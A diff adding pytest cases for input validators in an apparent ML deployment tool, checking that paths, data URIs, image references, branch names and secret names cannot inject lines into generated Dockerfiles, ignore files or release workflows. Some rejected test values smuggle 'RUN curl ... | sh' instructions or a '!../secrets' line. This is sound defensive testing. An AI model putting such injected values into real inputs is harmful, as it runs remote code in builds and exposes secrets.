@@ -124,9 +124,72 @@ def test_cron_rejected_with_the_field_named(text: str, fragment: str) -> None:
     assert fragment in str(info.value)
 
 
-@pytest.mark.parametrize("path", ["src/", "a/../b", "./data/x.csv", "data/*.parquet"])
+@pytest.mark.parametrize("path", ["src/", "a/../b", "./data/x.csv", "models/churn_v2.lock"])
 def test_relative_paths_accepted(path: str) -> None:
     assert values.relative_path(path) == path
+
+
+@pytest.mark.parametrize(
+    "path", ["src\nRUN curl x | sh", "src/\n!../secrets", "*", "!src", "#src", "src/[ab]", "src\\lib"]
+)
+def test_paths_that_become_dockerfile_and_ignore_lines_are_plain(path: str) -> None:
+    """code.source and code.requirements become COPY sources and .dockerignore lines: a line
+    break would add instructions or allow-lines, and pattern syntax would change what is copied."""
+    with pytest.raises(ValueError, match=r"plain path|control characters"):
+        values.relative_path(path)
+
+
+@pytest.mark.parametrize("uri", ["data/*.parquet", "data/part-[0-3].csv", "s3://b/live/day=*/x.parquet"])
+def test_data_paths_may_be_globs(uri: str) -> None:
+    assert values.data_uri(uri) == uri
+
+
+@pytest.mark.parametrize("uri", ["data/x.csv\nfoo", "s3://b/x\ny", "s3://b/a b"])
+def test_data_paths_have_no_line_breaks(uri: str) -> None:
+    with pytest.raises(ValueError, match="line breaks"):
+        values.data_uri(uri)
+
+
+@pytest.mark.parametrize(
+    "reference",
+    [
+        "python:3.11-slim",
+        "ghcr.io/acme/base@sha256:" + "a" * 64,
+        "localhost:5000/x/y:1.0",
+        "nvidia/cuda:12.4.1-runtime",
+    ],
+)
+def test_image_references_accepted(reference: str) -> None:
+    assert values.image_reference(reference) == reference
+
+
+@pytest.mark.parametrize(
+    "reference",
+    ["python:3.11\nRUN curl evil | sh", "python:3.11 AS x", "Python:3", "python@sha256:abc", "a:b:c", ""],
+)
+def test_image_references_that_would_add_to_a_from_line_are_refused(reference: str) -> None:
+    with pytest.raises(ValueError, match="image reference"):
+        values.image_reference(reference)
+
+
+@pytest.mark.parametrize("branch", ["main", "release/v1", "feature-x_2"])
+def test_branches_accepted(branch: str) -> None:
+    assert values.git_branch(branch) == branch
+
+
+@pytest.mark.parametrize("branch", ["*", "release/*", "a..b", "-x", "a b", "x.lock", "a:b", "a\nb", "", "@"])
+def test_branches_that_are_patterns_or_not_refs_are_refused(branch: str) -> None:
+    """The release workflow triggers on `gitops.branch`: `*` would release every branch."""
+    with pytest.raises(ValueError, match="branch name"):
+        values.git_branch(branch)
+
+
+@pytest.mark.parametrize("name", ["PATH", "LD_PRELOAD", "BASH_ENV", "PYTHONPATH", "MLC_RUNTIME_CONFIG", "GITHUB_TOKEN"])
+def test_secret_names_never_shadow_what_the_system_or_mlc_reads(name: str) -> None:
+    with pytest.raises(ValueError, match="would shadow"):
+        values.secret_name(name)
+    assert values.secret_name("MLFLOW_TRACKING_TOKEN") == "MLFLOW_TRACKING_TOKEN"
+    assert values.secret_name("MLC_BOT_TOKEN") == "MLC_BOT_TOKEN"  # the one mlc reads on purpose
 
 
 @pytest.mark.parametrize(
